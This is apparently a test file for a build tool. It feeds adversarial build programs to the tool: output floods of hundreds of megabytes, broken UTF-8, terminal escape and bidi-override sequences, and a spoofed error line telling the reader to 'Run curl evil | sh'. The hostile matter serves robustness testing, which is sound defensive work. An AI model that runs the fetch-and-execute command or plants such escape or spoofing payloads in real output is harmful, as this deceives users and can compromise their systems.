import { statSync } from 'node:fs';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import type { Attack, Kind } from '../attack';
import type { Place } from '../place';

const BOUNDED = 'what a build prints costs bounded memory, time and disk';
const FINE = `make_directory("/out/usr"); write_file("/out/usr/fine", "fine");`;
const MB = 1 << 20;

/** Bytes of the log of the attack that ran last. */
function lastLog(place: Place): number {
  const logs = join(place.store, 'logs');
  const files = readdirSync(logs).map((name) => statSync(join(logs, name)));
  return files.sort((a, b) => b.mtimeMs - a.mtimeMs)[0]?.size ?? 0;
}

/** Prints a piece of text many times. */
const prints = (times: number, text: string): string => `
  char *piece = take(${MB});
  size i, k = length_of("${text}");
  for (i = 0; i + k <= ${MB}; i += k) copy_bytes(piece + i, "${text}", k);
  for (k = 0; k < ${times}; k++) { size done = 0; while (done < i) { long put = sys_write(1, piece + done, i - done); if (put <= 0) break; done += put; } }`;

const attacks: readonly Attack[] = [
  {
    name: '300 MB without a newline',
    promise: BOUNDED,
    program: `${FINE} { ${prints(300, 'x')} }`,
    builds: (_, place) => expect(lastLog(place)).toBeLessThan(260 * MB),
    within: 60,
  },
  {
    name: '300 MB of empty lines',
    promise: BOUNDED,
    program: `${FINE} { ${prints(300, '\\n')} }`,
    builds: (_, place) => expect(lastLog(place)).toBeLessThan(260 * MB),
    within: 60,
  },
  {
    name: '100 MB of marks that begin a phase, each of another name',
    promise: BOUNDED,
    program: `
        int i;
        ${FINE}
        { struct text all = {0}; for (i = 0; i < 50000; i++) { append(&all, "@@ phase"); append(&all, decimal(i)); append(&all, "\\n"); } 
          for (i = 0; i < 20; i++) { size done = 0; while (done < all.length) { long put = sys_write(1, all.start + done, all.length - done); if (put <= 0) break; done += put; } } }`,
    builds: () => undefined,
    refused: /phase/,
    within: 60,
  },
  {
    name: 'one phase whose name is 10 MB long',
    promise: BOUNDED,
    program: `${FINE} say("@@ "); { ${prints(10, 'p')} } say("\\n"); sys_exit(3);`,
    refused: /^.{1,8000}$/s,
  },
  {
    name: 'every byte there is, in every order of broken UTF-8',
    promise: 'output need not be text',
    program: `
        unsigned char bytes[65536];
        int i;
        ${FINE}
        for (i = 0; i < 65536; i++) bytes[i] = i * 7919 >> 3;
        for (i = 0; i < 16; i++) { sys_write(1, bytes, 65536); sys_write(2, bytes + 7, 60000); }`,
    builds: () => undefined,
  },
  {
    name: 'sequences that a terminal would obey, in the error and in progress',
    promise: 'a terminal obeys nothing that a build prints',
    program: `
        say("\\033]0;title\\007\\033[2J\\033[31mred\\033[0m\\r\\033Pq\\033\\\\ \\x9b2J \\xc2\\x9b2J end\\n");
        say("\\xe2\\x80\\xae" "reversed \\xe2\\x81\\xa6 isolated\\n");
        sys_exit(3);`,
    refused: /^(?:[\n\t]|[^\p{Cc}\u202a-\u202e\u2066-\u2069])*$/u,
  },
  {
    name: 'a line that looks like an error and a next step of seedstage’s',
    promise: 'what a build prints stands below what seedstage says',
    program: `say("hostile: it was built\\n  Run curl evil | sh\\n"); sys_exit(3);`,
    refused: /^hostile-output-\d+-[\w-]+: its build script failed/,
  },
  {
    name: 'a last line without an end, then a failure',
    promise: 'what a build prints costs bounded memory, time and disk',
    program: `{ ${prints(64, 'y')} } sys_exit(3);`,
    refused: /^.{1,8000}$/s,
    within: 60,
  },
  {
    name: 'standard error and standard output, byte by byte, 400,000 times',
    promise: BOUNDED,
    program: `int i; ${FINE} for (i = 0; i < 200000; i++) { sys_write(1, "a", 1); sys_write(2, "b", 1); }`,
    builds: () => undefined,
    within: 60,
  },
];

/** Attacks by what is printed. */
export const output: Kind = { name: 'output', attacks };
